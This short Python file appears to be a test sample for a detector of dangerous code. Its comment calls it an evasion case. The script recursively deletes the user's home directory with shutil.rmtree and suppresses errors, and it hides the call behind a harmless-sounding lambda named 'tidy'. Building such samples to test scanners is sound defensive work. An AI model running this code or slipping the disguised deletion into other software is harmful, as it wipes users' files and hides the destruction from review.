# Evasion: deletes the user's home directory recursively.
# Hidden behind a lambda local to a function: "tidy" wraps shutil.rmtree
# with a default for ignore_errors, and it is called with the home directory
# as a keyword argument (path=str(Path.home())).
import shutil
import sys
from pathlib import Path


def main(argv):
    tidy = lambda path, quiet=True: shutil.rmtree(path, ignore_errors=quiet)
    if "--check" in argv:
        print("would tidy", Path.home())
        return 0
    tidy(path=str(Path.home()))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
